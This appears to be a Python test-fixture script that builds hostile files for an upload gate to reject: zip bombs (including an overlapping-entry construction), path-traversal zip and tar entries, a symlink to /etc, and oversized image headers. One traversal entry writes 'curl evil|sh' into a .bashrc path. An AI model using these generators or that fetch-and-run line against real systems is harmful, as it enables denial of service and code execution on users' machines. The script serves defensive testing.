#!/usr/bin/python3
"""tests/gate/hostile.py DIR: the archives and images of issue 11 item 13,
built here so the test owns every byte of them.

  bomb.zip      ~1 MiB that expands to 1000 MiB (one entry of zeros: a
                DEFLATE block for 1 MiB, repeated after full flushes)
  overlap.zip   64 entries whose data overlap (Fifield's quoted-overlap
                construction): each file is the next one's local header
                quoted in a stored block, then the next file, down to one
                shared 1 MiB kernel; 64+ MiB from ~8 KiB
  slip.zip      an entry named ../../home/user/.bashrc
  link.zip      a symbolic link entry to /etc
  nested.zip    a zip inside a zip
  slip.tar.gz   a tar.gz with ../escape
  ok.zip        two ordinary CSV files
  ok.tar.gz     (named ok.gz) an ordinary tar.gz
  huge.png      65535 x 65535 (IHDR only, a valid tiny IDAT)
  huge.jpg      65500 x 65500 (SOF0 and SOS, no pixels needed to say so)
  wide.gif      a 40000 x 10 screen with a 1 x 1 frame
  ok.jpg        an 8 x 8 JPEG header
"""
import io
import os
import struct
import sys
import tarfile
import zipfile
import zlib

D = sys.argv[1]


def put(name, data):
    with open(os.path.join(D, name), 'wb') as f:
        f.write(data)


def lfh(name, crc, csize, usize, method=8):
    return struct.pack('<IHHHHHIIIHH', 0x04034b50, 20, 0, method, 0, 0,
                       crc, csize, usize, len(name), 0) + name


def cdh(name, crc, csize, usize, off, method=8, attr=0):
    return struct.pack('<IHHHHHHIIIHHHHHII', 0x02014b50, 0x031e, 20, 0,
                       method, 0, 0, crc, csize, usize, len(name), 0, 0, 0,
                       0, attr, off) + name


def eocd(n, cdsize, cdoff):
    return struct.pack('<IHHHHIIH', 0x06054b50, 0, 0, n, n, cdsize, cdoff, 0)


def bomb():
    mib = bytes(1 << 20)
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = c.compress(mib) + c.flush(zlib.Z_FULL_FLUSH)
    data = block * 1000 + c.flush()
    crc = 0
    for _ in range(1000):
        crc = zlib.crc32(mib, crc)
    name = b'zeros.bin'
    usize = 1000 << 20
    h = lfh(name, crc, len(data), usize)
    cd = cdh(name, crc, len(data), usize, 0)
    put('bomb.zip', h + data + cd + eocd(1, len(cd), len(h) + len(data)))


def overlap(n=64):
    kernel_u = b'a' * (1 << 20)
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    kernel = c.compress(kernel_u) + c.flush()
    names = [('f%02d.txt' % i).encode() for i in range(n)]
    # From the last file back: its header, its sizes, its CRC.
    heads = [None] * n
    csize = [0] * n
    usize = [0] * n
    crc = [0] * n
    csize[-1] = len(kernel)
    usize[-1] = len(kernel_u)
    crc[-1] = zlib.crc32(kernel_u)
    heads[-1] = lfh(names[-1], crc[-1], csize[-1], usize[-1])
    for i in range(n - 2, -1, -1):
        q = heads[i + 1]
        csize[i] = 5 + len(q) + csize[i + 1]
        usize[i] = len(q) + usize[i + 1]
        # crc(q + U(i+1)): U(i+1) is the headers after it, then kernel.
        v = zlib.crc32(q)
        for j in range(i + 2, n):
            v = zlib.crc32(heads[j], v)
        crc[i] = zlib.crc32(kernel_u, v)
        heads[i] = lfh(names[i], crc[i], csize[i], usize[i])
    body = b''
    offs = []
    for i in range(n):
        offs.append(len(body))
        body += heads[i]
        if i < n - 1:
            q = heads[i + 1]
            body += struct.pack('<BHH', 0, len(q), len(q) ^ 0xffff)
    body += kernel
    cd = b''.join(cdh(names[i], crc[i], csize[i], usize[i], offs[i])
                  for i in range(n))
    put('overlap.zip', body + cd + eocd(n, len(cd), len(body)))


def zip_of(name, entries):
    b = io.BytesIO()
    with zipfile.ZipFile(b, 'w', zipfile.ZIP_DEFLATED) as z:
        for info, data in entries:
            z.writestr(info, data)
    put(name, b.getvalue())
    return b.getvalue()


def main():
    bomb()
    overlap()
    zip_of('slip.zip', [('ok.txt', 'fine\n'),
                        ('../../home/user/.bashrc', 'curl evil|sh\n')])
    li = zipfile.ZipInfo('etc')
    li.create_system = 3
    li.external_attr = (0o120777 << 16)
    zip_of('link.zip', [(li, '/etc')])
    inner = zip_of('inner.zip', [('a.txt', 'inner\n')])
    os.unlink(os.path.join(D, 'inner.zip'))
    zip_of('nested.zip', [('inner.zip', inner)])
    zip_of('ok.zip', [('a.csv', 'a,b\n1,2\n'), ('d/b.csv', 'c\n3\n')])
    for name, member in (('slip.tar.gz', '../escape.txt'),
                         ('ok.gz', 'report.txt')):
        b = io.BytesIO()
        with tarfile.open(fileobj=b, mode='w:gz') as t:
            ti = tarfile.TarInfo(member)
            ti.size = 6
            t.addfile(ti, io.BytesIO(b'hello\n'))
        put(name, b.getvalue())

    def chunk(t, d):
        return (struct.pack('>I', len(d)) + t + d +
                struct.pack('>I', zlib.crc32(t + d) & 0xffffffff))
    put('huge.png', b'\x89PNG\r\n\x1a\n' +
        chunk(b'IHDR', struct.pack('>IIBBBBB', 65535, 65535, 8, 2, 0, 0, 0))
        + chunk(b'IDAT', zlib.compress(b'')) + chunk(b'IEND', b''))

    def jpeg(w, h):
        sof = struct.pack('>BHHB', 8, h, w, 3) + b'\x01\x11\x00\x02\x11\x00\x03\x11\x00'
        sos = struct.pack('>B', 3) + b'\x01\x00\x02\x11\x03\x11' + b'\x00\x3f\x00'
        return (b'\xff\xd8\xff\xe0' + struct.pack('>H', 16) + b'JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00'
                + b'\xff\xc0' + struct.pack('>H', 2 + len(sof)) + sof
                + b'\xff\xda' + struct.pack('>H', 2 + len(sos)) + sos
                + b'\x00' * 64 + b'\xff\xd9')
    put('huge.jpg', jpeg(65500, 65500))
    put('ok.jpg', jpeg(8, 8))
    put('wide.gif', b'GIF89a' + struct.pack('<HH', 40000, 10) +
        b'\x00\x00\x00' + b',' + struct.pack('<HHHH', 0, 0, 1, 1) +
        b'\x00\x02\x02\x44\x01\x00;')


main()
